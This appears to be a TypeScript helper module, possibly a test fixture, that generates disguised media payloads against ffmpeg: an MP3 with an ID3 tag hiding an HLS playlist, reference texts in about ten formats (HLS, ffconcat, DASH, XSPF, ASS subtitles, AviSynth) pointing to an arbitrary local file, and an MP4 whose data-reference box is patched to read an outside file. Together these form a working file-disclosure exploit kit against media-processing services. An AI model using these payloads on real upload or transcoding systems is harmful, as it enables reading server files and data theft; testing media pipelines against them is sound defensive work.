import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** A tag of ID3v2.4 whose flags promise a footer that is not there: the next ten bytes are skipped, or are not. */
const tagWithFooter = Buffer.concat([
  Buffer.from('ID3\x04\x00\x10\x00\x00\x00\x0a', 'latin1'),
  Buffer.alloc(10),
  Buffer.from([0xff, 0xfb, 0x90, 0x44, 0, 0, 0, 0, 0, 0]),
]);

/** A frame of MPEG audio that is silent. */
const frame = Buffer.concat([Buffer.from([0xff, 0xfb, 0x90, 0x44]), Buffer.alloc(413)]);

export const toPlaylist = (target: string) =>
  `#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\nfile://${target}\n#EXT-X-ENDLIST\n`;

/** An MP3 for whoever looks at its beginning, a list of addresses for ffmpeg. */
export function makeDisguisedPlaylist(target: string): Buffer {
  return Buffer.concat([tagWithFooter, Buffer.from(toPlaylist(target))]);
}

/** Texts that make a program read another file, as formats of ffmpeg know them. */
export function makeReferences(target: string): Record<string, string> {
  return {
    HLS: toPlaylist(target),
    ffconcat: `ffconcat version 1.0\nfile '${target}'\n`,
    'concat by its address': `concat:${target}`,
    DASH: `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT5S" minBufferTime="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="audio/mpeg"><Representation id="1" bandwidth="1"><BaseURL>file://${target}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    SDP: 'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5004 RTP/AVP 0\n',
    RTSP: 'RTSP/1.0 200 OK\n',
    'a list of a radio': `[playlist]\nFile1=file://${target}\n`,
    XSPF: `<?xml version="1.0"?><playlist xmlns="http://xspf.org/ns/0/" version="1"><trackList><track><location>file://${target}</location></track></trackList></playlist>`,
    'subtitles with fonts': `[Script Info]\n[V4+ Styles]\n[Fonts]\nfontname: ${target}\n[Events]\nDialogue: 0,0:00:00.00,0:00:05.00,Default,,0,0,0,,{\\fnfile://${target}}a\n`,
    'a script of AviSynth': `DirectShowSource("${target}")`,
  };
}

/** Beginnings that are taken for MP3; texts for other programs are put behind them. */
export const soundBeginnings: Record<string, Buffer> = {
  'a tag with a footer': tagWithFooter,
  'a tag without': Buffer.from('ID3\x03\0\0\0\0\0\0', 'latin1'),
  'a frame': frame,
};

/** An MP4 film of a second whose sound, so it says, lies in another file (`dref` with the box `alis` or `url `). */
export function makeFilmOfOtherFile(folder: string, target: string): Buffer {
  const path = join(folder, 'that-film.mp4');
  const sine = '-nostdin -v error -y -f lavfi -i sine=d=1 -c:a aac -f mp4'.split(' ');
  execFileSync('ffmpeg', [...sine, path]);
  const film = readFileSync(path);
  const at = film.indexOf('url \0\0\0\x01', 0, 'latin1');
  if (at === -1) throw new Error('ffmpeg wrote no data reference');
  // The flag “in this file” is taken away; the address that then should follow is what comes next in the file.
  film.writeUInt32BE(0, at + 4);
  writeFileSync(path, film);
  return Buffer.concat([film, Buffer.from(`file://${target}\0`)]);
}
